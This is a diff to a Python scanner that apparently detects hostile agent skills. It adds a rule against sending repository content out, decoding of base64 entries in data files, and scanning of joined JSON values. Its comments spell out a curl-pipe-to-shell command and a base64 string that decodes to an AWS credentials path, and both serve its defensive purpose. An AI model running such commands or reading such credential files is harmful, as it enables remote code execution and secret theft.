@@ -299,6 +299,8 @@ TWO_HALVES = (
     ("download", "code_exec", "DX-04", ("SC-01", "SC-02", "DX-04"), True,
      "runs a computed string as code here and downloads"),
     ("append_write", "authorized_keys", "EA-03", ("EA-03",), False, "appends to a file here and names authorized_keys"),
+    ("repo_content", "egress", "EX-02", ("EX-01", "EX-02"), False,
+     "bundles the repository's content or history here and sends data out"),
     ("env_walk", "egress", "EX-03", ("EX-02", "EX-03"), False, "walks the whole environment here and sends data out"),
     ("label_encode", "dns_lookup", "EX-02", ("EX-02",), True, "looks names up here and spells data as hex or base32"),
     ("agent_history", "egress", "AS-01", ("AS-01", "AS-02", "EX-02"), False,
@@ -1624,7 +1626,7 @@ class Scanner:
             if len(data) > DATA_LIST_MAX or not (path.lower().endswith((".txt", ".list", ".sql"))
                                                  or classify(path, data[:8192], False) == "data"):
                 continue
-            text = data.decode("utf-8", errors="replace")
+            text = _b64_entries(data.decode("utf-8", errors="replace"))
             tx = None
             for half, rule, sink in RELATED_HALVES:
                 rx = self._def(half)
@@ -1660,6 +1662,42 @@ class Scanner:
                     if sev != "high":
                         note += "; lowered: the skill's description says it does this"
                 out.append(self._finding(rule, sev, path, at, _window(lines[at - 1].rstrip("\r"), 0), note=note))
+        return out
+
+    def config_commands(self, files: dict[str, bytes], found: list[Finding], description: str = "") -> list[Finding]:
+        """A command a script builds from the values of a JSON file of its skill: ``{"fetch": ["curl",
+        "-fsSL"], "base": "https://…", "file": "/run.sh", "via": ["|", "/bin/sh"]}`` joined by
+        ``" ".join(c["fetch"] + [c["base"] + c["file"]] + c["via"])`` is ``curl -fsSL https://…/run.sh |
+        /bin/sh``, which no line of either file holds. The string values of each JSON file a script of
+        the skill names (not its keys), in order, joined by blanks, are read as a script; what the rules
+        find there that they did not find in the file itself is reported on the file's first value."""
+        scripts = [data.decode("utf-8", errors="replace") for path, data in files.items()
+                   if len(data) <= DATA_LIST_MAX * 8 and classify(path, data[:8192], False) == "script"]
+        if not scripts:
+            return []
+        out = []
+        for path, data in files.items():
+            if not path.lower().endswith(".json") or len(data) > DATA_LIST_MAX:
+                continue
+            name = posixpath.basename(path)
+            if not any(name in text for text in scripts):
+                continue
+            text = data.decode("utf-8", errors="replace")
+            values = [m for m in JSON_VALUE_RE.finditer(text) if m.group(1).strip()]
+            if len(values) < 2:
+                continue
+            joined = " ".join(m.group(1).replace('\\"', '"').replace("\\/", "/") for m in values)
+            seen = {f.rule for f in found if f.file == path and f.grades}
+            line = text.count("\n", 0, values[0].start()) + 1
+            lines = text.split("\n")
+            for f in self.scan_text(path, joined, "script", description):
+                if f.rule in seen or not f.grades or f.category == "hidden-text":
+                    continue
+                seen.add(f.rule)
+                f.note = (f.note + "; " if f.note else "") + "in the file's values joined, as a script that reads " \
+                    "it may join them: " + f.text
+                f.line, f.text = line, _window(lines[line - 1].rstrip("\r"), 0)
+                out.append(f)
         return out
 
     def make_recipes(self, files: dict[str, bytes], found: list[Finding], description: str = "") -> list[Finding]:
@@ -2563,6 +2601,10 @@ class Scanner:
                 shown = _shown_near(ctx, line, decoded)  # written out next to it: not hidden from the reader
                 inner = self.scan_text(ctx.path, decoded, "markdown", ctx.description, nested + 1,
                                        False if shown else None)
+                if ctx.kind in ("script", "data"):  # there it may be code the script runs: read as code too
+                    seen = {f.rule for f in inner}  # (its flows and two halves), what prose reading missed
+                    inner += [f for f in self.scan_text(ctx.path, decoded, "script", ctx.description, nested + 1,
+                                                        False if shown else None) if f.rule not in seen]
             inner = [f for f in inner if f.rule != "HT-04"]
             if length >= 120 or inner:
                 sev = "medium" if decoded or ctx.kind in ("skill_md", "markdown") else "low"
@@ -2587,6 +2629,37 @@ MAKE_DEPTH, MAKE_LENGTH = 8, 4000  # expansion rounds, and the longest line an e
 MAKE_DEF_RE = re.compile(r"^(?:export[ \t]+|override[ \t]+)?([A-Za-z_][A-Za-z0-9_.-]{0,60})[ \t]*(::?=|:::=|\?=|\+=|=)"
                          r"[ \t]*([^\n]{0,1000})$", re.M)
 MAKE_USE_RE = re.compile(r"\$(?:\(([A-Za-z_][A-Za-z0-9_.-]{0,60})\)|\{([A-Za-z_][A-Za-z0-9_.-]{0,60})\})")
+
+
+# An entry of a data file that may be base64 (a config list of "hints", "sources", "paths"): 8 or
+# more characters of its alphabet standing alone, not a word (a digit, "+", "/" or "=" in it)
+B64_ENTRY_RE = re.compile(r"(?<![\w+/=.~-])[A-Za-z0-9+/]{8,400}={0,2}(?![\w+/=.-])")
+
+
+# A JSON string that is a value (after "[", ",", ":" and before ",", "]", "}"), not a key
+JSON_VALUE_RE = re.compile(r'(?<=[\[,:])\s*"((?:[^"\\\n]|\\.){0,2000})"(?=\s*[,\]}])')
+
+
+def _b64_entries(text: str) -> str:
+    """A data file's text with each entry that decodes from base64 to a printable ASCII line
+    written decoded in its place (``hints = fi8uYXdzL2NyZWRlbnRpYWxz,…`` is ``~/.aws/credentials``):
+    a script that reads its paths from the file decodes them, so the halves are looked for in what
+    the script reads, not in the disguise."""
+    if not any(c.isdigit() or c in "+/=" for c in text):
+        return text
+
+    def decoded(m: re.Match) -> str:
+        tok = m.group(0)
+        if tok.rstrip("=").isalpha() or tok.isdigit():
+            return tok
+        raw = hidden.decode_b64(tok)
+        try:
+            out = raw.decode("ascii") if raw else ""
+        except UnicodeDecodeError:
+            return tok
+        return out if len(out) >= 4 and out.isprintable() else tok
+
+    return B64_ENTRY_RE.sub(decoded, text)
 
 
 def _makefile(path: str) -> bool:
